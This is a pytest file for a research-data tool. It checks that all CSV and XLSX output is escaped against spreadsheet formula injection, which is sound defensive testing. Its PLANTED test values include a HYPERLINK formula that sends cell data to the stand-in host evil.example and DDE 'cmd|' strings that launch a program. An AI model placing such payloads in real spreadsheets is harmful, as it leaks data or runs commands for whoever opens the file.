"""CSV and XLSX injection: no cell fivep writes can start a formula (OWASP), and fivep reads its own files back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from fivep.cells import FORMULA_STARTS, is_formula_like, safe_cell, safe_frame, safe_writer, unescape_cell

PLANTED = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "role_1": "=cmd|' /C calc'!A0",
    "role_2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "role_3": "+1+2",
    "role_4": "-2+3 minus sign first",
    "role_5": "\t=1+1",
}


@pytest.mark.parametrize("value,written", [
    ("=1+2", "'=1+2"), ("+66 81 234 5678", "'+66 81 234 5678"), ("- a list item", "'- a list item"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("-", "'-"),
    ("-3", "-3"), ("-0.25", "-0.25"), ("+1e5", "+1e5"), (-3, -3), (2.5, 2.5), (None, None),
    ("a=b", "a=b"), ("ข้อความ", "ข้อความ"), ("", ""), ("'=already", "'=already"),
])
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


@settings(max_examples=300, deadline=None)
@given(text=st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "'", "1", ".", "e", "a", "ก", " ", ","]), max_size=8)
       | st.text(max_size=20))
def test_escaped_text_never_starts_a_formula_and_reads_back(text: str) -> None:
    written = safe_cell(text)
    assert not is_formula_like(written)
    if not (text.startswith("'") and is_formula_like(text[1:])):
        assert unescape_cell(written) == text
    buffer = io.StringIO()
    safe_writer(buffer).writerow([text])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [written]


def test_safe_frame_escapes_text_names_and_index_but_not_numbers() -> None:
    import pandas as pd

    frame = pd.DataFrame({"=col": ["=a", "b"], "n": [-1, 2]}, index=pd.Index(["@x", "y"], name="group"))
    out = safe_frame(frame)
    assert list(out.columns) == ["'=col", "n"] and list(out.index) == ["'@x", "y"]
    assert out["'=col"].tolist() == ["'=a", "b"] and out["n"].tolist() == [-1, 2]
    assert frame.columns[0] == "=col"   # the input is not changed


# --- every CSV and XLSX output of a run, with formula-like values planted in the study ------------------------

def _plant(study: Path) -> None:
    transcript = study / "transcripts" / "FG-CM-NGO.txt"
    text = transcript.read_text(encoding="utf-8")
    head, rest = text.split("\ntitle:", 1)
    transcript.write_text(f"{head}\ntitle: '{PLANTED['title'].replace(chr(39), chr(39) * 2)}'\n"
                          + rest.split("\n", 1)[1], encoding="utf-8")
    roster = study / "respondents.csv"
    rows = list(csv.reader(io.StringIO(roster.read_text(encoding="utf-8"))))
    role = rows[0].index("role")
    for i, key in enumerate(("role_1", "role_2", "role_3", "role_4", "role_5"), start=1):
        rows[i][role] = PLANTED[key]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    roster.write_text(buffer.getvalue(), encoding="utf-8")


def _cells(path: Path) -> list[str]:
    if path.suffix == ".csv":
        return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]
    from openpyxl import load_workbook

    book = load_workbook(path)   # not read-only: a formula cell keeps its '=' text
    return [c.value if c.data_type != "f" else f"={c.value}".replace("==", "=")
            for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


def test_no_output_cell_starts_a_formula(sample_copy: Path, tmp_path: Path) -> None:
    from fivep.cli import app

    _plant(sample_copy)
    runner = CliRunner()
    out = tmp_path / "out"
    result = runner.invoke(app, ["run", str(sample_copy), "--out", str(out), "--no-topics"])
    assert result.exit_code == 0, result.output
    for fmt in ("xlsx", "csv"):
        done = runner.invoke(app, ["export", str(sample_copy), "--out", str(out / f"export.{fmt}"), "--format", fmt])
        assert done.exit_code == 0, done.output
    for command in (["frequencies", str(sample_copy), "--by", "group", "-f", "csv"],
                    ["demographics", str(sample_copy), "-f", "csv", "--combine", "x=government,ngo"]):
        done = runner.invoke(app, command)
        assert done.exit_code == 0, done.output
        (out / f"{command[0]}.csv").write_text(done.stdout, encoding="utf-8")
    done = runner.invoke(app, ["deidentify", str(sample_copy), "--out", str(out / "deidentified")])
    assert done.exit_code == 0, done.output
    files = sorted(p for folder in (out, sample_copy / ".fivep" / "private") for p in folder.rglob("*")
                   if p.suffix in (".csv", ".xlsx"))
    assert {"codings.csv", "framework_matrix.xlsx", "export.xlsx", "export.csv", "frequencies.csv",
            "respondents.csv", "deid-review.csv", "deid-key.csv"} <= {
        p.name for p in files}
    seen: list[str] = []
    for path in files:
        cells = _cells(path)
        live = [c for c in cells if is_formula_like(c)]
        assert not live, f"{path.name}: {live[:3]}"
        seen.extend(cells)
    for value in PLANTED.values():   # the planted values are there, escaped, not lost
        assert "'" + value.strip() in seen, value   # the roster reader strips spaces and tabs


def test_files_fivep_reads_back_keep_their_values(tmp_path: Path) -> None:
    """A roster and a review file fivep wrote escaped are read back as the original values."""
    from fivep.ingest.roster import read_roster
    from fivep.privacy.review import Detection, read_review, write_review

    text = "โทร +66 81 234 5678 หรือ -ไม่มี-"
    start = text.index("+")
    review = tmp_path / "review.csv"
    write_review(review, [Detection("D1", start, start + 15, "PHONE", text[start:start + 15], replacement="=X"),
                          Detection("D1", 0, 3, "PERSON", "โทร", decision="reject")])
    assert "'+66 81 234 5678" in review.read_text(encoding="utf-8-sig")
    rows = read_review(review, {"D1": text})
    assert [r.text for r in rows] == ["+66 81 234 5678", "โทร"] and rows[0].replacement == "=X"

    roster = tmp_path / "respondents.csv"
    buffer = io.StringIO()
    writer = safe_writer(buffer, lineterminator="\n")
    writer.writerows([["respondent_id", "group", "role"], ["R1", "ngo", "=lead"], ["R2", "ngo", "'plain"]])
    roster.write_text(buffer.getvalue(), encoding="utf-8")
    people = read_roster(roster)
    assert [p.attributes["role"] for p in people] == ["=lead", "'plain"]
